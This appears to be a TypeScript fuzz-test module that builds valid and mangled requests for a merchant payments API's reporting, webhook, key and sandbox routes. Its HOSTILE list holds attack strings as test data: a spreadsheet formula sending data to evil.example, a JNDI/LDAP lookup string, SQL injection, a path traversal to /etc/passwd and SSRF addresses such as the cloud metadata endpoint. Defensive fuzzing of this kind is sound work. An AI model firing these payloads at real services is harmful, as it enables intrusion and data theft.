// The merchant API family's valid requests, for the fuzz engine to mangle: every reporting, webhook-management, event
// and sandbox route behind the merchant gateway (test/support/security/merchant-routes.ts lists them for the security suites;
// test/fuzz-merchant.test.ts checks each of those, and each operation of /openapi.json under the family's prefixes,
// has a template here). Each case is authenticated when it is sent (signing.ts): mostly HTTP Signature under
// testrest's sandbox key, some under testrest_acct's meta key or othermerchant's, some with the SDK's JWT (HS256,
// RS256) or an OAuth bearer token; and a share carry one fault in their authentication.
import fc from 'fast-check'
import { encode, pathsOf, type Header, type Param } from './mangle.js'
import { build, variants, type Template } from './requests.js'
import { authFault } from './signing.js'
import type { Auth, FuzzCase } from './wire.js'

/** What the merchant setup made over HTTP, for templates to name. */
export interface MerchantContext {
  /** The server's time at setup (ms): windows and dates are taken around it. */
  nowMs: number
  webhookId: string
  /** A subscription the DELETE template removes. */
  spareWebhookId: string
  /** othermerchant's subscription: testrest must never see it. */
  otherWebhookId: string
  reportId: string
  notificationId: string
  /** A digital signature key id of testrest (a subscription's securityPolicy may name it). */
  signingKeyId: string
  /** A key the STORE template hands the server (a secret: the log must never hold it). */
  storeKey: string
  /** A certificate for keys-asym (base64 DER). */
  mlePub: string
  /** Whether an RS256 certificate is registered for testrest. */
  rs256: boolean
  /** Whether the partner's client (testrest_acct) got a token. */
  acctToken: boolean
}

/** A wait the contract documents for a route (the webhook test call makes its first attempt within the call). */
export interface MerchantTemplate extends Template {
  graceMs?: number
}

const HEADERS: Header[] = [['Host', '127.0.0.1'], ['User-Agent', 'finapi-fuzz/1.0'], ['X-CorrelationID', 'fuzz-m-1']]
const day = (ms: number) => new Date(ms).toISOString().slice(0, 10)
const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z')
const DAY = 86_400_000

export function merchantTemplates(ctx: MerchantContext, outboundMs: number): MerchantTemplate[] {
  const now = ctx.nowMs
  const start = iso(Date.UTC(new Date(now).getUTCFullYear(), new Date(now).getUTCMonth(), new Date(now).getUTCDate()) - 10 * DAY)
  const end = iso(Date.parse(start) + DAY)
  const window: Param[] = [['startTime', start], ['endTime', end]]
  const get = (path: string, params: Param[] = [], extra: Header[] = []): MerchantTemplate => ({ note: `GET ${path}`, method: 'GET', path, params, headers: [...HEADERS, ...extra] })
  const write = (method: string, path: string, json: unknown, extra: Partial<MerchantTemplate> = {}): MerchantTemplate => ({ note: `${method} ${path}`, method, path, params: [], headers: HEADERS, body: { json }, ...extra })
  const hook = (id: string) => `/notification-subscriptions/v2/webhooks/${id}`
  const subscription = {
    reportDefinitionName: 'TransactionRequestClass', reportName: 'Fuzz_Daily', reportFields: ['Request.RequestID', 'Request.TransactionDate', 'PaymentData.Amount'],
    reportMimeType: 'text/csv', reportFrequency: 'DAILY', timezone: 'GMT', startTime: '0900', reportFilters: { 'Application.Name': ['ics_auth'] }, reportPreferences: { signedAmounts: true, fieldNameConvention: 'SOAPI' },
  }
  const webhook = {
    name: 'Fuzz hook', description: 'made by the fuzz', organizationId: 'testrest', products: [{ productId: 'customerInvoicing', eventTypes: ['invoicing.customer.invoice.paid', 'invoicing.customer.invoice.send'] }],
    webhookUrl: 'http://127.0.0.1:9/hook', healthCheckUrl: 'http://127.0.0.1:9/health', notificationScope: 'DESCENDANTS',
    retryPolicy: { algorithm: 'ARITHMETIC', firstRetry: 1, interval: 1, numberOfRetries: 3, deactivateFlag: 'false', repeatSequenceCount: 0, repeatSequenceWaitTime: 0 },
    securityPolicy: { securityType: 'key', config: { additionalConfig: { keyId: ctx.signingKeyId } } },
  }
  return [
    get('/reporting/v3/report-definitions', [['organizationId', 'testrest']]),
    get('/reporting/v3/report-definitions/TransactionRequestClass'),
    get('/reporting/v3/report-definitions/PaymentBatchDetailClass', [['download', 'true']], [['Accept', 'application/xml']]),
    get('/reporting/v3/report-subscriptions'),
    get('/reporting/v3/report-subscriptions/Fuzz_Daily'),
    write('PUT', '/reporting/v3/report-subscriptions', subscription),
    write('PUT', '/reporting/v3/report-subscriptions', { ...subscription, reportName: 'Fuzz_Weekly', reportFrequency: 'WEEKLY', startDay: 2, reportMimeType: 'application/xml', timezone: 'America/Los_Angeles' }),
    write('PUT', '/reporting/v3/report-subscriptions', { ...subscription, reportName: 'Fuzz_Hours', reportFrequency: 'USER_DEFINED', reportInterval: 'PT12H', startTime: '0130', timeZone: 'Australia/Sydney' }),
    write('PUT', '/reporting/v3/predefined-report-subscriptions', { reportDefinitionName: 'FundingDetailClass', subscriptionType: 'CLASSIC', reportName: 'Fuzz_Classic', timezone: 'GMT', subscriptionStatus: 'ACTIVE' }),
    { note: 'DELETE subscription', method: 'DELETE', path: '/reporting/v3/report-subscriptions/Fuzz_Weekly', params: [], headers: HEADERS },
    write('POST', '/reporting/v3/reports', { reportDefinitionName: 'TransactionRequestClass', reportName: 'Fuzz_OneTime', reportFields: ['Request.RequestID', 'PaymentData.Amount'], reportMimeType: 'application/json', timezone: 'GMT', reportStartTime: start, reportEndTime: end, reportFrequency: 'ADHOC' }),
    get('/reporting/v3/reports', [...window, ['timeQueryType', 'reportTimeFrame'], ['reportMimeType', 'application/json'], ['reportStatus', 'COMPLETED'], ['reportName', 'Fuzz_OneTime']]),
    get('/reporting/v3/reports', [['startTime', iso(now - DAY)], ['endTime', iso(now + DAY)], ['timeQueryType', 'executedTime'], ['reportFrequency', 'ADHOC'], ['reportDefinitionId', '210']]),
    get(`/reporting/v3/reports/${ctx.reportId}`),
    get('/reporting/v3/report-downloads', [['reportName', 'Fuzz_OneTime'], ['reportDate', day(Date.parse(end) - 1)], ['organizationId', 'testrest']]),
    get('/reporting/v3/report-downloads', [['reportName', 'Fuzz_OneTime'], ['reportDate', day(Date.parse(end) - 1).replace(/-/g, '')], ['reportTime', '00:00:00Z']], [['Range', 'bytes=0-15'], ['If-None-Match', '"x"']]),
    get('/reporting/v3/purchase-refund-details', [...window, ['paymentSubtype', 'VI'], ['viewBy', 'requestDate'], ['offset', '0'], ['limit', '50']]),
    get('/reporting/v3/purchase-refund-details', [...window, ['limit', '10']], [['Accept', 'text/csv']]),
    get('/reporting/v3/net-fundings', [['startTime', iso(Date.parse(start) - 5 * DAY)], ['endTime', end], ['groupName', 'Fuzz']]),
    get('/reporting/v3/payment-batch-summaries', [...window, ['rollUp', 'day'], ['breakdown', 'all_merchant'], ['startDayOfWeek', '2']], [['Accept', 'application/xml']]),
    get('/reporting/v3/conversion-details', window, [['Accept', 'application/xml']]),
    get('/reporting/v3/notification-of-changes', [['startTime', iso(Date.parse(start) - 20 * DAY)], ['endTime', end]], [['Accept', 'text/csv']]),
    get('/sandbox/v1/clock'),
    write('POST', '/sandbox/v1/clock', { to: iso(now + DAY), organizationId: 'testrest' }),
    write('POST', '/sandbox/v1/events', { eventType: 'invoicing.customer.invoice.paid', data: { invoiceNumber: 'F-1', currency: 'USD' } }),
    write('POST', '/sandbox/v1/events', { eventType: 'reporting.report.no-data', organizationId: 'testrest' }),
    write('POST', '/kms/egress/v2/keys-sym', { clientReferenceInformation: { code: 'fuzz' }, clientRequestAction: 'CREATE', keyInformation: { provider: 'nrtd', tenant: 'testrest', keyType: 'sharedSecret', organizationId: 'testrest', clientKeyId: 'fuzz-client', expiryDuration: '365' } }),
    write('POST', '/kms/egress/v2/keys-sym', { clientRequestAction: 'STORE', keyInformation: { keyId: 'fuzz-stored', key: ctx.storeKey, expiryDuration: '30' } }),
    write('POST', '/kms/egress/v2/keys-asym', { clientReferenceInformation: { code: 'fuzz' }, clientRequestAction: 'CREATE', keyInformation: { provider: 'nrtd', tenant: 'testrest', keyType: 'mle', organizationId: 'testrest', pub: ctx.mlePub, expiryDuration: '365' } }),
    get('/notification-subscriptions/v2/products/testrest'),
    write('POST', '/notification-subscriptions/v2/webhooks', webhook),
    get('/notification-subscriptions/v2/webhooks', [['organizationId', 'testrest'], ['productId', 'customerInvoicing'], ['eventType', 'invoicing.customer.invoice.paid']]),
    get(hook(ctx.webhookId)),
    get(hook(ctx.otherWebhookId)),
    write('PATCH', hook(ctx.webhookId), { name: 'Fuzz hook renamed', description: null, products: webhook.products, retryPolicy: { algorithm: 'GEOMETRIC', firstRetry: '2', interval: '2' }, notificationScope: 'SELF' }),
    write('PUT', `${hook(ctx.webhookId)}/status`, { status: 'ACTIVE' }),
    write('PUT', `${hook(ctx.webhookId)}/status`, { status: 'INACTIVE' }),
    { note: 'DELETE webhook', method: 'DELETE', path: hook(ctx.spareWebhookId), params: [], headers: HEADERS },
    write('POST', `/notification-subscriptions/v1/webhooks/${ctx.webhookId}`, {}, { graceMs: outboundMs }),
    write('POST', `/webhooks/${ctx.webhookId}/replays`, { byDeliveryStatus: { status: 'FAILED', hoursBack: 24, productId: 'customerInvoicing', eventType: 'invoicing.customer.invoice.paid' } }),
    write('POST', `/webhooks/${ctx.webhookId}/replays`, { byDeliveryStatus: { status: 'HELD', startTime: iso(now - 3_600_000), endTime: iso(now) } }),
    write('POST', `/nrtf/v1/webhooks/${ctx.webhookId}/replays`, { byTransactionTraceIdentifiers: ['00000000-0000-4000-8000-000000000000'] }),
    get('/webhooks/v1/notifications', [['webhookId', ctx.webhookId], ['status', 'FAILED'], ['limit', '20']]),
    get(`/webhooks/v1/notifications/${ctx.notificationId}`),
    write('POST', '/webhooks/v1/events', {
      eventType: 'invoicing.customer.invoice.send', organizationId: 'testrest', eventDate: iso(now),
      data: { invoiceNumber: 'F-2', payerName: 'Zoë', balanceAmount: '12.50', currency: 'EUR', dueDate: day(now + 7 * DAY) },
      preferences: { contacts: [{ firstName: 'A', lastName: 'B', contact: 'a@example.com', type: 'EMAIL' }] }, metadata: { from: { displayName: 'Shop' }, reply: { email: 'r@example.com' }, sentBy: 'fuzz' },
    }),
  ]
}

/** The credential a case is signed with: mostly testrest's own key; a share of meta-key, JWT and bearer cases. */
function credential(ctx: MerchantContext): fc.Arbitrary<Omit<Auth, 'mangle'>> {
  return fc.oneof(
    { weight: 12, arbitrary: fc.constant<Omit<Auth, 'mangle'>>({ scheme: 'signature', key: 'testrest' }) },
    { weight: 2, arbitrary: fc.constant<Omit<Auth, 'mangle'>>({ scheme: 'signature', key: 'acct', merchant: 'testrest' }) },
    { weight: 1, arbitrary: fc.constant<Omit<Auth, 'mangle'>>({ scheme: 'signature', key: 'other' }) },
    { weight: 3, arbitrary: fc.constantFrom<Omit<Auth, 'mangle'>>({ scheme: 'jwt-hs256', key: 'testrest' }, { scheme: 'jwt-hs256', key: 'acct', merchant: 'testrest' }) },
    { weight: ctx.rs256 ? 2 : 0, arbitrary: fc.constant<Omit<Auth, 'mangle'>>({ scheme: 'jwt-rs256', key: 'testrest' }) },
    { weight: 3, arbitrary: fc.constantFrom<Omit<Auth, 'mangle'>>({ scheme: 'oauth', key: 'testrest' }, ctx.acctToken ? { scheme: 'oauth', key: 'acct', merchant: 'testrest' } : { scheme: 'oauth', key: 'testrest' }) },
  )
}

/** The authentication of a case: a credential, and about one case in seven a fault in it. */
export function authOf(ctx: MerchantContext): fc.Arbitrary<Auth> {
  return credential(ctx).chain((c) => fc.oneof({ weight: 6, arbitrary: fc.constant(c) }, { weight: 1, arbitrary: authFault(c.scheme).map((mangle) => ({ ...c, mangle })) }))
}

/**
 * Text known to hurt servers like this one, put in one place at a time (beside variants(), whose junk rarely lands
 * a given payload in a given field): NUL (PostgreSQL's text cannot hold it), names of Object.prototype members
 * (looked up in a plain object they find a function), spreadsheet formulas, addresses that embed or translate a
 * loopback or private IPv4 address, the shortest report interval, template and injection strings.
 */
export const HOSTILE = [
  'a\u0000b', '\u0000', 'toString', 'constructor', '__proto__', 'hasOwnProperty', 'valueOf', 'prototype',
  '=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,1)', '-2+3', '@cmd', '\t=1', '\r=1',
  'http://[::ffff:0:127.0.0.1]/hook', 'http://[fec0::1]/hook', 'http://[2002:7f00:1::]/hook', 'http://[64:ff9b::7f00:1]/hook', 'http://[::ffff:7f00:1]/hook',
  'http://169.254.169.254/latest/meta-data/', 'http://[::1]:9/hook', 'http://0x7f.1/hook', 'http://2130706433/hook', 'http://localhost./hook',
  'PT1M', 'PT0M', 'P1D', '\u202eevil', '\ud800', 'x'.repeat(300), '${jndi:ldap://evil.example/a}', "'; DROP TABLE webhooks;--", '{{7*7}}', '../../../../etc/passwd',
]

function setLeaf(value: unknown, path: (string | number)[], leaf: unknown): unknown {
  const copy = structuredClone(value) as Record<string | number, unknown>
  let node = copy
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>
  node[path[path.length - 1]!] = leaf
  return copy
}

/** The template with one hostile text: in a body member (or as a member's name), a query parameter, or the path's last id. */
export function hostile(t: Template): fc.Arbitrary<FuzzCase> {
  const text = fc.constantFrom(...HOSTILE)
  const kinds: fc.Arbitrary<FuzzCase>[] = [text.map((v) => build(t, `hostile path ${JSON.stringify(v.slice(0, 20))}`, { path: `${t.path.replace(/\/[^/]*$/, '')}/${encode(v)}` }))]
  if (t.params.length) {
    kinds.push(fc.tuple(fc.nat({ max: t.params.length - 1 }), text).map(([i, v]) => build(t, `hostile query ${t.params[i]![0]}`, { params: t.params.map((p, j) => (j === i ? [p[0], v] : p)) })))
  }
  const body = t.body && 'json' in t.body ? t.body.json : undefined
  const leaves = body === undefined ? [] : pathsOf(body).filter((p) => typeof p[p.length - 1] === 'string' || typeof p[p.length - 1] === 'number')
  if (body !== undefined && leaves.length) {
    kinds.push(fc.tuple(fc.constantFrom(...leaves), text).map(([p, v]) => build(t, `hostile member ${p.join('.')}`, { body: JSON.stringify(setLeaf(body, p, v)) })))
    kinds.push(fc.tuple(fc.constantFrom([], ...leaves.map((p) => p.slice(0, -1)).filter((p) => p.length > 0)), text).map(([p, name]) => {
      const parent = p.reduce<unknown>((node, key) => (node as Record<string | number, unknown>)[key], body)
      const withName = Array.isArray(parent) || typeof parent !== 'object' || parent === null ? parent : { ...parent, [name]: 'x' }
      return build(t, `hostile member name under ${p.join('.') || 'the body'}`, { body: JSON.stringify(p.length ? setLeaf(body, p, withName) : withName) })
    }))
  }
  return fc.oneof(...kinds)
}

/** The values the sweep puts in every field: NUL, and names an object lookup finds on Object.prototype. */
export const SWEEP_VALUES = ['a\u0000b', 'toString', '__proto__']

/**
 * Field by field, systematically (random cases rarely land a given value in a given field): each template with one
 * of SWEEP_VALUES in each body member, each query parameter and its path's last segment, signed with testrest's key.
 */
export function sweepCases(ctx: MerchantContext, outboundMs: number): FuzzCase[] {
  const auth: Auth = { scheme: 'signature', key: 'testrest' }
  return merchantTemplates(ctx, outboundMs).flatMap((t) => {
    const body = t.body && 'json' in t.body ? t.body.json : undefined
    const leaves = body === undefined ? [] : pathsOf(body).filter((p) => typeof p[p.length - 1] === 'string')
    return SWEEP_VALUES.flatMap((v) => [
      build(t, `sweep path ${JSON.stringify(v)}`, { path: `${t.path.replace(/\/[^/]*$/, '')}/${encode(v)}` }),
      ...t.params.map((_, i) => build(t, `sweep query ${t.params[i]![0]}=${JSON.stringify(v)}`, { params: t.params.map((p, j) => (j === i ? [p[0], v] : p)) })),
      ...leaves.map((p) => build(t, `sweep member ${p.join('.')}=${JSON.stringify(v)}`, { body: JSON.stringify(setLeaf(body, p, v)) })),
    ]).map((c): FuzzCase => (c.type === 'http' ? { ...c, auth, ...(t.graceMs ? { graceMs: t.graceMs } : {}) } : c))
  })
}

/** Every merchant route, valid and mangled, each case authenticated (or not quite) when sent. */
export function merchantCases(ctx: MerchantContext, outboundMs: number): fc.Arbitrary<FuzzCase> {
  const cases = merchantTemplates(ctx, outboundMs).map((t) =>
    fc.tuple(fc.oneof({ weight: 5, arbitrary: variants(t) }, { weight: 1, arbitrary: hostile(t) }), authOf(ctx))
      .map(([c, auth]): FuzzCase => (c.type === 'http' ? { ...c, auth, ...(t.graceMs ? { graceMs: t.graceMs } : {}) } : c)),
  )
  return fc.oneof(...cases)
}
